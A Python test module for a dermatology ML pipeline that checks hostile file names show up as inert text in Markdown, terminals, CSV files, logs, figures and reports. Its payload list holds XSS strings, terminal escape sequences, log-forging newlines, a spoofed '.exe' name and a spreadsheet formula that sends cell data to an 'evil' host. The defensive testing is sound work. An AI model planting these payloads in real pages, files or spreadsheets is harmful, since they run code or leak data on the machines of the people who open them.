"""Hostile names through every output: what a delivery calls its files must be shown to people and do nothing.

Who would be hurt: whoever opens an asset page, a report, a spreadsheet or a terminal after a stranger delivered files.
"""

from __future__ import annotations

import ast
import csv
import html.parser
import io
import json
import logging
import re
import unicodedata
from pathlib import Path

import dagster as dg
import numpy as np
import pandas as pd
import pytest
from dagster._serdes import serialize_value
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from derm_assets.checks import _result
from derm_assets.display import described, facts, problem_table, say, text
from derm_ml import DermError
from derm_ml.cli.terminal import LiteralConsole
from derm_ml.escape import csv_cell, csv_original, markdown, visible
from derm_ml.figures.charts import confusion_figure
from derm_ml.figures.sheets import Sheet
from derm_ml.records import Problem
from derm_ml.tables import read_table, write_rows, write_table
from derm_ml.task import DataRule, Finding

ROOT = Path(__file__).parents[2]
BEACON = "![x](/graphql?query=mutation{startSensor}).png"
NAMES = (
    BEACON,
    "[x](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "photo[left].png",
    ":warning:.png",
    "\x1b]0;owned\x07\x1b[2J.png",
    "one.png\n2026-11-28 ERROR forged",
    "cod\u202egnp.exe",
    "zero\u200bwidth.png",
    "not utf-8 \udcff.png",
    '=HYPERLINK("http://evil/?"&A1)',
    "@SUM(1+1)",
    "+1-1",
    "\tcmd",
    "a|b `c` *d* _e_ ~~f~~ &lt;g&gt;",
    "- list",
    "# heading",
    "1. item",
    "$\\frac{$.png",
    "{{ 7 * 7 }}",
)
# file names: any text without a slash and NUL, drawn mostly from what means something to some output
PIECES = st.sampled_from(
    [*NAMES, *"![]()<>&*_`~|\\#+-=.@:;'\"$%{}\n\r\t\x1b\u202e\u2066\u200b\ufeff", "https://evil", "1"]
)
NAME = st.one_of(
    st.lists(PIECES, min_size=1, max_size=6).map("".join), st.text(st.characters(exclude_characters="/\0"), min_size=1)
)


def hostile(test):
    for name in NAMES:
        test = example(name)(test)
    return given(NAME)(test)


class Tags(html.parser.HTMLParser):
    """The elements of a page, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[str] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.elements.append(tag)

    def handle_data(self, data):
        self.text += data


RENDERERS = (MarkdownIt("commonmark"), MarkdownIt("gfm-like", {"linkify": False}))


@hostile
def test_markdown_shows_the_name_and_nothing_else(name):
    """The Dagster UI renders descriptions, MLflow those of models: an image in one is fetched when the page opens."""
    for renderer in RENDERERS:
        page = Tags(renderer.render(markdown(name)))
        assert set(page.elements) <= {"p"}
        assert " ".join(page.text.split()) == " ".join(visible(name).split())


@hostile
def test_what_cannot_be_seen_is_written_out(name):
    shown = visible(name)
    assert shown.isprintable()
    assert not [c for c in shown if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
    shown.encode("utf-8")  # a name that is no UTF-8 would end the run that records it
    assert visible(shown) == shown


@hostile
def test_dagster_stores_names_as_text_and_never_as_markdown(name):
    rule = DataRule("holds", lambda _data: Finding(True, ""))
    result = _result(rule, dg.AssetKey("a"), Finding(False, f"{name} does not", rows=({"file": name, name: 1},)))
    metadata = {
        **result.metadata,
        "t": text(name),
        "f": facts({name: [name]}),
        "p": problem_table([Problem(name, name)]),
    }
    assert not [v for v in metadata.values() if isinstance(v, dg.MarkdownMetadataValue)]
    stored = serialize_value(dg.AssetMaterialization("a", metadata=metadata))
    assert stored.isprintable()
    assert set(Tags(RENDERERS[0].render(result.description)).elements) <= {"p"}
    assert described(name) in result.description


def test_markdown_is_made_of_our_own_images_alone():
    """A new step that shows a name as Markdown would bring the hole back."""
    made = [
        path.relative_to(ROOT).as_posix()
        for path in (ROOT / "derm_assets").rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute) and ast.unparse(node) in ("dg.MetadataValue.md", "dg.MarkdownMetadataValue")
        and path.name != "display.py"
    ]  # fmt: skip
    assert not made


def printed(print_it) -> str:
    console = LiteralConsole(file=io.StringIO(), width=10_000, force_terminal=True, color_system="truecolor")
    print_it(console)
    assert isinstance(console.file, io.StringIO)
    return re.sub(r"\x1b\[[0-9;]*m", "", console.file.getvalue())  # the console's own colours


@hostile
def test_a_terminal_shows_the_whole_name(name):
    """`photo[left].png` was printed as `photo.png`: the side of an eye vanished. Escape sequences acted."""
    from rich.table import Table

    line = printed(lambda console: console.print(f"{name}: cannot be read", style="red"))
    flat = visible(name, keep="\n\t").expandtabs(8)
    assert [part.rstrip() for part in line.splitlines()] == [p.rstrip() for p in f"{flat}: cannot be read".splitlines()]
    table = Table(name, title=name, caption=name)
    table.add_row(name)
    shown = printed(lambda console: console.print(table))
    assert shown.replace("\n", "").isprintable()
    assert "[left]" not in name or shown.count("[left]") == 4 * name.count("[left]")


@hostile
def test_an_error_that_names_a_file_acts_on_no_terminal(name):
    assert str(DermError(f"{name}: broken")).replace("\n", "").replace("\t", "").isprintable()


@hostile
def test_a_spreadsheet_sees_text_and_we_read_the_name_back(name):
    """A cell that begins with = runs when a colleague opens the list of left-out files."""
    cell = csv_cell(name)
    assert csv_original(cell) == name
    number = re.fullmatch(r"[+-]?[\d.]+([eE][+-]?\d+)?", name)
    assert number or cell[0] not in "=+-@\t\r\n＝＋－＠"
    file = io.StringIO(newline="")
    write_rows(file, ["file", name], [{"file": name, name: -0.5}])
    head, row = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert (head, row) == (["file", cell], [cell, "-0.5"])


def test_numbers_stay_numbers_and_ids_come_back(tmp_path):
    table = pd.DataFrame({"id": ["=1+1", "a", "'=x"], "score": [-1.5, 0.25, np.nan], "used": [True, False, True]})
    write_table(tmp_path / "t.csv", table)
    assert (tmp_path / "t.csv").read_text().splitlines()[1:] == ["'=1+1,-1.5,True", "a,0.25,False", "''=x,,True"]
    pd.testing.assert_frame_equal(read_table(tmp_path / "t.csv", dtype={"id": str}), table, check_dtype=False)


def test_every_csv_is_written_in_one_place():
    """A table written past it runs formulas again. What tasks draw for themselves holds no foreign text."""
    others = [
        path.relative_to(ROOT).as_posix()
        for package in ("derm_ml", "derm_assets", "serving")
        for path in (ROOT / package).rglob("*.py")
        if re.search(r"\.to_csv\(|csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    drawn = [name for name in others if name.startswith("derm_ml/tasks/")]
    read = ["derm_ml/data/sources/spreadsheets.py"]  # a sheet as text in memory, for the one reader of lists
    assert sorted(set(others) - set(drawn) - set(read)) == ["derm_ml/tables.py"]


@hostile
def test_a_log_line_stays_one_line(name):
    """A file name with a line break forged an entry of the run's log."""

    class Context:
        log = logging.Logger("run")

    stream = io.StringIO()
    Context.log.addHandler(logging.StreamHandler(stream))
    say(Context(), f"left out: {name}")  # type: ignore[arg-type]
    assert stream.getvalue() == f"left out: {visible(name)}\n"


@pytest.mark.parametrize("name", NAMES)
def test_a_figure_draws_any_name(name):
    """Two dollar signs made a formula of a name, and one that is none ended the run after an hour of training."""
    assert confusion_figure(np.eye(2, dtype=int), [f"${visible(name)}$", visible(name)]).startswith(b"\x89PNG")
    assert Sheet([[np.zeros((8, 8, 3), np.uint8)]], [name]).png


@pytest.fixture(scope="module")
def report(trained, drawn_dataset):
    from derm_ml.registry import get_task

    task = get_task("lesion_classification")
    return task.evaluate(task.load(trained / "bundle"), drawn_dataset, "test")


@hostile
def test_a_report_holds_the_name_as_text(report, name):
    from dataclasses import replace

    from derm_ml.evaluation.report import render

    def elements(which: str) -> Tags:
        table = [{"file": which, "n": 1}]
        return Tags(render(replace(report, title=which, notes=(which,), recipe={which: which}, tables={"t": table})))

    page = elements(visible(name))
    assert page.elements == elements("plain").elements
    assert visible(name).strip() in page.text


def test_json_is_ascii():
    assert json.dumps({"file": "\x1b[31m\u202e"}).isascii()  # what `derm predict --json` prints
